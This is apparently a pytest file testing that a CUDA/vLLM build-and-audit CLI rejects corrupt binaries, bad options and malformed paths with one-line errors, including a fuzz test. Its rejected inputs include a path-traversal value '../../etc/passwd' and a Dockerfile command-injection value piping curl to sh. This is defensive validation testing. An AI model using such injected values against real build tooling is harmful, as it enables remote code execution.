"""Bad input: one-line errors and a non-zero exit, never a traceback; fuzzed in CI."""

from __future__ import annotations

import struct
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from devkit.helpers import cli, one_line_error
from sm121_build.core.errors import CorruptBinaryError
from sm121_build.cuda.fatbin import HostBinary


def _fatbin_span(path: Path) -> tuple[int, int]:
    from elftools.elf.elffile import ELFFile

    with open(path, "rb") as handle:
        section = ELFFile(handle).get_section_by_name(".nv_fatbin")
        return section["sh_offset"], section["sh_size"]



def test_not_elf(tmp_path: Path) -> None:
    junk = tmp_path / "junk.so"
    junk.write_bytes(b"hello, not an ELF at all\n" * 10)
    line = one_line_error(cli("audit", str(junk)), alone=True)
    assert "not an ELF file, wheel, or image tarball" in line


def test_missing_file(tmp_path: Path) -> None:
    assert "no such file" in one_line_error(cli("audit", str(tmp_path / "nope.so")), alone=True)


def test_truncated(plain_so: Path, tmp_path: Path) -> None:
    data = plain_so.read_bytes()
    cut = tmp_path / "cut.so"
    start, _size = _fatbin_span(plain_so)
    cut.write_bytes(data[: start + 100])
    line = one_line_error(cli("audit", str(cut)), alone=True)
    assert "cut.so" in line


def test_truncated_to_header(plain_so: Path, tmp_path: Path) -> None:
    cut = tmp_path / "head.so"
    cut.write_bytes(plain_so.read_bytes()[:40])
    assert "not an ELF file" in one_line_error(cli("audit", str(cut)), alone=True)


def test_elf_without_fatbin_has_no_device_code(host_only_so: Path) -> None:
    result = cli("audit", str(host_only_so))
    assert result.returncode == 0, result.stderr
    assert "carry no device code" in result.stdout
    listing = cli("audit", "--format", "cuobjdump", str(host_only_so))
    assert listing.returncode == 0 and listing.stdout == ""


def test_nonsense_entry_size(plain_so: Path, tmp_path: Path) -> None:
    data = bytearray(plain_so.read_bytes())
    start, _ = _fatbin_span(plain_so)
    first_entry = start + 16
    struct.pack_into("<Q", data, first_entry + 8, 1 << 60)  # payload size
    bad = tmp_path / "bad.so"
    bad.write_bytes(bytes(data))
    line = one_line_error(cli("audit", str(bad)), alone=True)
    assert "nonsense size" in line


def test_bad_container_magic(plain_so: Path, tmp_path: Path) -> None:
    data = bytearray(plain_so.read_bytes())
    start, _ = _fatbin_span(plain_so)
    struct.pack_into("<I", data, start, 0xDEADBEEF)
    bad = tmp_path / "magic.so"
    bad.write_bytes(bytes(data))
    assert "bad fatbin container magic" in one_line_error(cli("audit", str(bad)), alone=True)


def test_corrupt_compressed_payload(matrix: dict[str, Path], tmp_path: Path) -> None:
    path = matrix["zstd"]
    with HostBinary.open(path) as binary:
        entry = next(e for e in binary.entries if e.compression == "zstd")
    data = bytearray(path.read_bytes())
    data[entry.offset:entry.offset + 16] = b"\xff" * 16
    bad = tmp_path / "zbad.so"
    bad.write_bytes(bytes(data))
    assert "does not decompress" in one_line_error(cli("audit", str(bad)), alone=True)


def test_section_headers_at_a_negative_offset(matrix: dict[str, Path], tmp_path: Path) -> None:
    """Found by the fuzz test: a zeroed e_shoff byte made pyelftools seek to a negative
    offset (OSError EINVAL), which escaped as a traceback."""
    data = bytearray(matrix["lz4"].read_bytes())
    data[41] = 0
    bad = tmp_path / "shoff.so"
    bad.write_bytes(bytes(data))
    with pytest.raises(CorruptBinaryError, match="not a readable ELF file"):
        HostBinary.open(bad)
    assert "not a readable ELF file" in one_line_error(cli("audit", str(bad)), alone=True)


@pytest.fixture(scope="module")
def fuzz_seed(matrix: dict[str, Path]) -> tuple[bytes, int, int, Path]:
    path = matrix["lz4"]
    start, size = _fatbin_span(path)
    return path.read_bytes(), start, size, path


@settings(max_examples=300, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(edits=st.lists(st.tuples(st.floats(0, 1, exclude_max=True), st.integers(0, 255)),
                      min_size=1, max_size=8),
       whole_file=st.booleans())
def test_fuzz_reader_raises_only_corrupt_binary_error(
        fuzz_seed: tuple[bytes, int, int, Path], tmp_path_factory: pytest.TempPathFactory,
        edits: list[tuple[float, int]], whole_file: bool) -> None:
    """Edit offsets are scaled to the file (its section header table at the end included)
    or to the whole fatbin, so every part of either can be hit."""
    data, start, size, _ = fuzz_seed
    mutated = bytearray(data)
    for where, value in edits:
        position = int(where * len(data)) if whole_file else start + int(where * size)
        mutated[position] = value
    target = tmp_path_factory.mktemp("fuzz") / "m.so"
    target.write_bytes(bytes(mutated))
    try:
        with HostBinary.open(target) as binary:
            for entry in binary.entries:
                binary.kernels(entry)
    except CorruptBinaryError as exc:
        assert "\n" not in str(exc)


@pytest.mark.parametrize("args, message", [
    (["build", "--base", "x", "--arch", ""], "an empty value for --arch"),
    (["build", "--base", "x", "--arch", "99.9a"], "'99.9a' is not a CUDA architecture"),
    (["build", "--base", "x", "--arch", "9.0"], "'9.0' gives sm_121 no native code"),
    (["build", "--base", "x", "--arch", "12.0a"], "'12.0a' gives sm_121 no native code"),
    (["dockerfile", "--base", "x", "--arch", "9.0+PTX"], "gives sm_121 no native code"),
    (["patch", ".", "--arch", "8.0"], "'8.0' gives sm_121 no native code"),
    (["build", "--base", "x", "--jobs", "-5"],
     "'-5': expected a whole number from 1 to 4096 in the digits 0-9"),
    (["build", "--base", "x", "--jobs", "0"], "0 is not in the range"),
    (["dockerfile", "--base", "x", "--ext", "../../etc/passwd"], "is not an extension name"),
    (["dockerfile", "--base", "x", "--ext", "x\nRUN curl evil | sh"], "is not an extension"),
    (["build", "--base", "x", "--ext", "_C abi3.so"], "is not an extension name"),
    (["build", "--fooo"], "No such option '--fooo'. Did you mean '--force'?"),
    (["patch"], "Missing argument 'SOURCE'."),
    (["prune", "--keep", "0"], "0 is not in the range 1-1000000"),
])
def test_inputs_are_refused_before_any_work_in_one_line(args: list[str], message: str) -> None:
    """Checked before the engine is contacted (the base `x` does not exist anywhere)."""
    line = one_line_error(cli(*args), alone=True)
    assert message in line and line.endswith("--help)")


@pytest.mark.parametrize("arg", ["./nope.so", "/nonexistent/x.so", "nope.so", "_C.abi3.so",
                                 "vllm-0.22.0-cp38-abi3-manylinux1_x86_64.whl", "dir/",
                                 "libx.so.12"])
def test_aot_of_a_path_that_is_not_there_says_so(arg: str) -> None:
    """A mistyped file, wheel or folder is said not to exist, before the engine is asked
    for it as an image (#61: aot took any path that does not exist for an image)."""
    line = one_line_error(cli("aot", arg, "--out", "/nonexistent-out"), alone=True)
    assert line.startswith(f"error: {arg} does not exist"), line


@pytest.mark.parametrize(("given", "named"), [
    (["--cuda-home", "."], "--cuda-home"), (["--no-cache"], "--no-cache"),
    (["--timeout", "5"], "--timeout"), (["-j", "2"], "--jobs"), (["--no-split"], "--no-split"),
    (["--jobs", "2", "--split"], "--jobs, --split")])
def test_an_option_of_files_given_with_an_image_is_refused_never_ignored(
        given: list[str], named: str) -> None:
    """Red team 12: `aot IMAGE --cuda-home DIR` (or --timeout, --jobs, --no-cache, --split)
    went on to the engine and compiled with this machine's newest ptxas, its cache and every
    core, the option silently dropped: refused in one line before the engine is asked."""
    line = one_line_error(cli("aot", "rt12-no/such-image:tag", *given), alone=True)
    assert line.startswith(f"error: {named}: for files, folders and wheels"), line


@pytest.mark.parametrize(("arch", "spelt"), [
    ("12.1", "12.1"), ("12.1a", "12.1a"), ("9.0 12.1", "9.0;12.1"), ("12.0f", "12.0f"),
    ("8.0+PTX;12.1", "8.0+PTX;12.1"), ("12.0f,12.1", "12.0f;12.1")])
def test_arch_lists_that_give_sm121_native_code_pass(arch: str, spelt: str) -> None:
    """Accepted, and spelt one way from here on (`;`-separated)."""
    from sm121_build.cli.params import arch_list

    assert str(arch_list(None, None, arch)) == spelt


def test_a_fifo_is_skipped_in_a_directory_and_refused_alone(plain_so: Path,
                                                            tmp_path: Path) -> None:
    import os
    import shutil

    folder = tmp_path / "site"
    folder.mkdir()
    shutil.copy(plain_so, folder / "good.so")
    os.mkfifo(folder / "pipe.so")
    result = cli("audit", "--json", str(folder))  # would block forever reading the FIFO
    assert result.returncode == 0, result.stderr
    assert "skipped: pipe.so: not a regular file" in result.stderr
    line = one_line_error(cli("audit", str(folder / "pipe.so")), alone=True)
    assert "not a regular file (a FIFO" in line


def test_one_corrupt_file_among_many_is_reported_and_the_rest_audited(
        plain_so: Path, tmp_path: Path) -> None:
    import json
    import shutil

    folder = tmp_path / "site"
    folder.mkdir()
    shutil.copy(plain_so, folder / "a_good.so")
    start, _size = _fatbin_span(plain_so)
    (folder / "b_cut.so").write_bytes(plain_so.read_bytes()[: start + 100])
    result = cli("audit", "--json", str(folder))
    assert result.returncode == 2
    assert [b["name"] for b in json.loads(result.stdout)["binaries"]] == ["a_good.so"]
    lines = result.stderr.strip().splitlines()
    assert lines[0].startswith("unreadable: b_cut.so: ")
    assert lines[-1] == (f"error: 1 of 2 file(s) or folder(s) in {folder} could not be audited "
                         "(listed above)")


def test_require_with_nothing_found_fails(tmp_path: Path) -> None:
    (tmp_path / "empty").mkdir()
    result = cli("audit", "--require", "native", "--include", "*/vlm/*", str(tmp_path / "empty"))
    assert result.returncode == 1
    assert "--require native: no ELF file found" in result.stderr
    assert "matching */vlm/*: nothing was checked" in result.stderr


@pytest.mark.parametrize("option", ["--out", "--report", "--summary-md"])
def test_an_output_that_cannot_be_written_fails_before_any_work(tmp_path: Path,
                                                                option: str) -> None:
    """(Tests run as root, where permissions do not bite: a path under a file cannot be
    written by anyone.)  The base `x` is never looked up."""
    blocker = tmp_path / "file"
    blocker.write_text("")
    line = one_line_error(cli("build", "--base", "x", option, str(blocker / "sub" / "o")),
                          alone=True)
    assert line.startswith(f"error: {option} {blocker}/sub/o: cannot write there (")


def test_a_damaged_wheel_and_a_truncated_tarball_are_one_line(plain_so: Path,
                                                              tmp_path: Path) -> None:
    import io
    import tarfile
    import zipfile

    wheel = tmp_path / "w-1.0-py3-none-any.whl"
    with zipfile.ZipFile(wheel, "w", zipfile.ZIP_STORED) as out:
        out.writestr("vllm/_C.abi3.so", plain_so.read_bytes())
    data = bytearray(wheel.read_bytes())
    at = data.index(b"\x7fELF") + 200
    data[at] ^= 0xFF  # the stored bytes no longer match their CRC-32
    wheel.write_bytes(bytes(data))
    assert "damaged archive (Bad CRC-32" in one_line_error(cli("audit", str(wheel)), alone=True)
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as tar:
        info = tarfile.TarInfo("layer/_C.abi3.so")
        payload = plain_so.read_bytes()
        info.size = len(payload)
        tar.addfile(info, io.BytesIO(payload))
    cut = tmp_path / "image.tar"
    cut.write_bytes(buffer.getvalue()[: 512 + len(payload) // 2])
    line = one_line_error(cli("audit", str(cut)), alone=True)
    assert str(cut) in line


def test_a_symlink_loop_in_the_source_is_one_line(tmp_path: Path) -> None:
    import shutil

    from devkit.helpers import DATA

    source = Path(shutil.copytree(DATA / "vllm_like", tmp_path / "src"))
    (source / "loop").symlink_to(source / "loop")
    result = cli("local", "--source", str(source), "--out", str(tmp_path / "out"))
    line = one_line_error(result, alone=True)
    assert "loop" in line and "Too many levels of symbolic links" in line


def test_patch_of_a_folder_that_is_not_vllm(tmp_path: Path) -> None:
    line = one_line_error(cli("patch", "--version", "0.19.1", str(tmp_path)), alone=True)
    assert line == (f"error: {tmp_path} is not a vLLM source tree (no CMakeLists.txt or "
                    "cmake/utils.cmake)")


def test_an_extension_no_rule_can_build_is_refused_before_the_engine() -> None:
    """No engine is reachable here: the refusal must come first (exit 2, not 4)."""
    line = one_line_error(cli("--base", "vllm/vllm-openai:cu130-nightly", "--ext",
                               "_vllm_fa3_C",
                               env={"DOCKER_HOST": "unix:///nonexistent.sock"}), alone=True)
    assert line == ("error: _vllm_fa3_C (vllm-flash-attn) has no sm_12x implementation this "
                    "tool can build: no rule in patches/ extends its guard (rebuildable here: "
                    "_vllm_fa2_C)")
